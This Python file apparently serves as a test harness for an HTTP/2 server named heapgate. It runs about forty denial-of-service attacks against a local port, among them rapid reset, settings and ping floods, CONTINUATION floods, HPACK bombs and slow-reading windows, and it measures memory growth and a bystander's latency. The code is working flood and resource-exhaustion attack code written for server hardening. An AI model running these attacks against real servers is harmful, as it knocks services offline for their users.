"""One attacking connection, a bystander beside it, and what both saw.

    attack.py CLEAR PID FILE ATTACK [SECONDS]

CLEAR is heapgate's cleartext port, PID its worker, FILE a small file that the
bystander asks for. Runs the attack again and again on new connections for
SECONDS (2), prints

    outcome of the first connection, e.g. "goaway 11"
    growth of the worker's memory in KiB, at most
    the bystander's p99 without and with the attack, in µs
    connections that were needed
"""

import argparse
import json
import multiprocessing
import os
import socket
import struct
import sys
import time

import h2
from h2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY,
                RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame)

ATTACKS = {}
WHOLE = END_STREAM | END_HEADERS


def attack(f):
    ATTACKS[f.__name__] = f
    return f


class Attacker(h2.Conn):
    def __init__(self, port, window=None):
        super().__init__(port, tls=False, timeout=5, window=window)
        self.head = h2.request("/never", self.authority, scheme="http")
        self.post = h2.request("/never", self.authority, "POST", "http")

    def take(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def streams_of(self, n, flags=WHOLE, head=None):
        out = b""
        first = self.next_stream
        for _ in range(n):
            out += frame(HEADERS, flags, self.take(), head or self.head)
        self.send(out)
        return range(first, self.next_stream, 2)

    def drain(self):
        """Reads what has come, without waiting."""
        self.sock.settimeout(0)
        try:
            while True:
                self.read_frame()
        except (BlockingIOError, OSError, EOFError):
            pass
        self.sock.settimeout(5)

    def repeat(self, data, n, wait=0):
        """data n times; ends when heapgate has had enough."""
        for _ in range(n):
            self.send(data() if callable(data) else data)
            if wait:
                time.sleep(wait)
                self.drain()
            if self.goaway:
                return


def pair(c, code=8):
    sid = c.take()
    return frame(HEADERS, WHOLE, sid, c.head) + frame(RST_STREAM, 0, sid,
                                                      struct.pack(">I", code))


# --- resets ---------------------------------------------------------------------

@attack
def rapid_reset(c):
    c.repeat(lambda: b"".join(pair(c) for _ in range(100)), 50)


@attack
def rapid_reset_in_small_steps(c):
    for _ in range(1000):
        sid = c.take()
        c.send(frame(HEADERS, WHOLE, sid, c.head))
        time.sleep(0.002)
        c.send(frame(RST_STREAM, 0, sid, b"\0\0\0\x08"))
        c.drain()
        if c.goaway:
            return


def provoke(*frames):
    """A request, then what makes heapgate reset it."""
    def f(c):
        def one():
            sid = c.take()
            return frame(HEADERS, END_HEADERS, sid, c.post) + b"".join(
                frame(kind, flags, sid, payload) for kind, flags, payload in frames)
        c.repeat(lambda: b"".join(one() for _ in range(20)), 100, 0.005)
    return f


ATTACKS["made_you_reset_by_window_overflow"] = provoke(
    (WINDOW_UPDATE, 0, b"\x7f\xff\xff\xff"))
ATTACKS["made_you_reset_by_zero_window_update"] = provoke((WINDOW_UPDATE, 0, bytes(4)))
ATTACKS["made_you_reset_by_priority_length"] = provoke((PRIORITY, 0, b"\0\0\0\0"))
ATTACKS["made_you_reset_by_data_after_the_end"] = provoke(
    (DATA, END_STREAM, b"x"), (DATA, 0, b"x"))
ATTACKS["made_you_reset_by_headers_after_the_end"] = provoke(
    (DATA, END_STREAM, b"x"), (HEADERS, WHOLE, block([("x", "y")])))
ATTACKS["made_you_reset_by_trailers_that_do_not_end"] = provoke(
    (HEADERS, END_HEADERS, block([("x", "y")])))
ATTACKS["made_you_reset_by_bad_trailers"] = provoke(
    (HEADERS, WHOLE, block([(":path", "/")])))
ATTACKS["made_you_reset_by_upper_case_trailers"] = provoke(
    (HEADERS, WHOLE, block([("X", "y")])))


@attack
def made_you_reset_by_content_length(c):
    c.post += block([("content-length", "1")])
    provoke((DATA, 0, b"xx"))(c)


@attack
def made_you_reset_by_malformed_heads(c):
    c.head += block([("connection", "close")])
    c.repeat(lambda: b"".join(frame(HEADERS, WHOLE, c.take(), c.head)
                              for _ in range(20)), 100, 0.005)


@attack
def made_you_reset_by_a_full_window(c):
    big = frame(DATA, 0, 0, b"x" * 16384)

    def one():
        sid = c.take()
        return frame(HEADERS, END_HEADERS, sid, c.post) + b"".join(
            big[:5] + struct.pack(">I", sid) + big[9:] for _ in range(5))
    c.repeat(one, 1000, 0.001)


@attack
def streams_beyond_the_limit(c):
    c.head = h2.request("/small", c.authority, scheme="http")
    c.repeat(lambda: b"".join(frame(HEADERS, WHOLE, c.take(), c.head)
                              for _ in range(1000)), 10)


# --- control frames -----------------------------------------------------------------

@attack
def settings_flood(c):
    c.repeat(frame(SETTINGS, 0, 0) * 1000, 20)


@attack
def settings_flood_without_reading(c):
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c.repeat(h2.settings([(3, 100)]) * 1000, 20)


@attack
def settings_window_flips(c):
    c.streams_of(50)
    c.repeat((h2.settings([(4, 0)]) + h2.settings([(4, 65535)])) * 200, 20)


@attack
def settings_table_size_flips(c):
    c.repeat((h2.settings([(1, 0)]) + h2.settings([(1, 4096)])) * 200, 20)


@attack
def settings_with_many_entries(c):
    c.repeat(h2.settings([(3, 100)] * 2000), 100)


@attack
def ping_flood(c):
    c.repeat(frame(PING, 0, 0, b"12345678") * 1000, 20)


@attack
def ping_flood_without_reading(c):
    c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    c.repeat(frame(PING, 0, 0, b"12345678") * 1000, 20)


@attack
def ping_ack_flood(c):
    c.repeat(frame(PING, ACK, 0, b"12345678") * 1000, 20)


@attack
def priority_flood(c):
    c.repeat(b"".join(frame(PRIORITY, 0, i, b"\0\0\0\0\x10")
                      for i in range(1, 2001, 2)), 20)


@attack
def priority_update_flood(c):
    c.repeat(b"".join(frame(0x10, 0, 0, struct.pack(">I", i) + b"u=1")
                      for i in range(1, 2001, 2)), 20)


@attack
def unknown_frame_flood(c):
    c.repeat(frame(0xf0, 0, 0) * 1000, 20)


@attack
def reset_flood_on_a_closed_stream(c):
    (sid,) = c.streams_of(1)
    c.repeat(frame(RST_STREAM, 0, sid, b"\0\0\0\x08") * 1000, 20)


# --- frames that carry nothing --------------------------------------------------------

@attack
def empty_data_flood(c):
    (sid,) = c.streams_of(1, END_HEADERS, c.post)
    c.repeat(frame(DATA, 0, sid) * 1000, 50)


@attack
def padding_flood(c):
    (sid,) = c.streams_of(1, END_HEADERS, c.post)
    c.repeat(frame(DATA, 8, sid, b"\0") * 1000, 50)


@attack
def data_dribble(c):
    """CVE-2019-9511: as much as the window takes, byte by byte."""
    (sid,) = c.streams_of(1, END_HEADERS, h2.request("/sum", c.authority, "POST",
                                                     "http"))
    c.repeat(frame(DATA, 0, sid, b"x") * 1000, 100)


@attack
def window_update_flood(c):
    c.streams_of(1)
    c.repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000, 50)


@attack
def one_byte_windows(c):
    c.send(h2.settings([(4, 1)]))
    sids = c.streams_of(100, head=h2.request("/big", c.authority, scheme="http"))
    updates = b"".join(frame(WINDOW_UPDATE, 0, sid, b"\0\0\0\1") for sid in sids)
    c.repeat(updates, 2000, 0.001)


# --- header blocks ----------------------------------------------------------------------

@attack
def continuation_flood(c):
    sid = c.take()
    c.send(frame(HEADERS, END_STREAM, sid, c.head))
    c.repeat(frame(CONTINUATION, 0, sid, block([("x", "y")])) * 1000, 20)


@attack
def empty_continuation_flood(c):
    sid = c.take()
    c.send(frame(HEADERS, END_STREAM, sid, c.head))
    c.repeat(frame(CONTINUATION, 0, sid) * 1000, 20)


@attack
def large_continuation_flood(c):
    sid = c.take()
    c.send(frame(HEADERS, END_STREAM, sid, c.head))
    c.repeat(frame(CONTINUATION, 0, sid, block([("x", "y" * 16000)])), 5000)


@attack
def hpack_bomb(c):
    """One entry of nearly the whole table, named again and again."""
    entry = b"\x40" + h2._string("x") + h2._string("y" * 4000)
    c.send(frame(HEADERS, WHOLE, c.take(), c.head + entry))
    c.repeat(lambda: frame(HEADERS, WHOLE, c.take(), c.head + b"\xbe" * 16000), 100)


@attack
def small_hpack_bombs(c):
    """Each just not too much for its stream."""
    entry = b"\x40" + h2._string("x") + h2._string("y" * 4000)
    c.send(frame(HEADERS, WHOLE, c.take(), c.head + entry))
    c.repeat(lambda: b"".join(frame(HEADERS, WHOLE, c.take(), c.head + b"\xbe" * 40)
                              for _ in range(50)), 100, 0.002)


@attack
def many_small_headers(c):
    small = block([("a", "")]) * 3000
    c.repeat(lambda: frame(HEADERS, WHOLE, c.take(), c.head + small), 1000)


@attack
def empty_header_blocks(c):
    c.repeat(lambda: b"".join(frame(HEADERS, WHOLE, c.take()) for _ in range(1000)), 20)


@attack
def heads_that_are_too_large(c):
    big = b"".join(block([("x%d" % i, "y" * 3900)]) for i in range(4))

    def one():
        sid = c.take()
        return (frame(HEADERS, END_STREAM, sid, c.head) +
                frame(CONTINUATION, 0, sid, big) + frame(CONTINUATION, 0, sid, big) +
                frame(CONTINUATION, END_HEADERS, sid, big))
    c.repeat(one, 1000, 0.001)


# --- readers that do not read ------------------------------------------------------------

@attack
def zero_windows(c):
    c.send(h2.settings([(4, 0)]))
    c.streams_of(100, head=h2.request("/big", c.authority, scheme="http"))
    time.sleep(2)


@attack
def windows_that_close(c):
    """Reads 100 KB of each, then nothing more."""
    c.send(h2.settings([(4, 100000)]) +
           frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
    c.streams_of(100, head=h2.request("/big", c.authority, scheme="http"))
    end = time.time() + 2
    while time.time() < end:
        c.drain()
        time.sleep(0.01)


@attack
def never_reads(c):
    c.send(h2.settings([(4, 1 << 30)]) +
           frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
    c.streams_of(100, head=h2.request("/big", c.authority, scheme="http"))
    time.sleep(2)


# --- measuring ---------------------------------------------------------------------------

def resident_kib(pid):
    with open("/proc/%d/statm" % pid) as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") // 1024


def read_answer(s):
    got = b""
    while b"\r\n\r\n" not in got:
        more = s.recv(65536)
        assert more, "the bystander was cut off"
        got += more
    head, _, body = got.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200"), head
    (length,) = [f[15:] for f in head.lower().split(b"\r\n")
                 if f.startswith(b"content-length:")]
    while len(body) < int(length):
        body += s.recv(65536)


def bystander(port, path, seconds, out):
    """Asks over and over on a connection of its own; the p99 in µs."""
    s = socket.create_connection(("127.0.0.1", port), 20)
    ask = ("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % path).encode()
    times = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        began = time.monotonic()
        s.sendall(ask)
        read_answer(s)
        times.append(time.monotonic() - began)
        time.sleep(0.001)
    times.sort()
    out.put((int(times[len(times) * 99 // 100] * 1e6), len(times)))


def run(port, name, seconds, out):
    end = time.monotonic() + seconds
    first, n = None, 0
    while n == 0 or time.monotonic() < end:
        try:
            c = Attacker(port)
        except OSError:
            break
        n += 1
        try:
            ATTACKS[name](c)
            got = c.outcome(timeout=3) if first is None else None
        except (OSError, EOFError):
            # what came before the connection broke says why
            got = c.outcome(timeout=1) if first is None else None
        first = first or got
        c.close()
        time.sleep(0.02)
    out.put((" ".join(map(str, first)), n))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    p.add_argument("pid", type=int)
    p.add_argument("path")
    p.add_argument("attack")
    p.add_argument("seconds", type=float, nargs="?", default=2)
    o = p.parse_args()
    q, b = multiprocessing.Queue(), multiprocessing.Queue()
    bystander(o.port, o.path, o.seconds, b)
    normal, _ = b.get()
    idle = most = resident_kib(o.pid)
    attacker = multiprocessing.Process(target=run, args=(o.port, o.attack, o.seconds, q))
    watcher = multiprocessing.Process(target=bystander,
                                      args=(o.port, o.path, o.seconds, b))
    attacker.start()
    watcher.start()
    while attacker.is_alive():
        most = max(most, resident_kib(o.pid))
        time.sleep(0.01)
    attacker.join()
    watcher.join()
    outcome, n = q.get(timeout=5)
    under, asked = b.get(timeout=5)
    print(json.dumps({"outcome": outcome, "grown_kib": most - idle, "normal_us": normal,
                      "attack_us": under, "asked": asked, "conns": n}))


if __name__ == "__main__":
    if sys.argv[1:] == ["list"]:
        print("\n".join(ATTACKS))
    else:
        main()
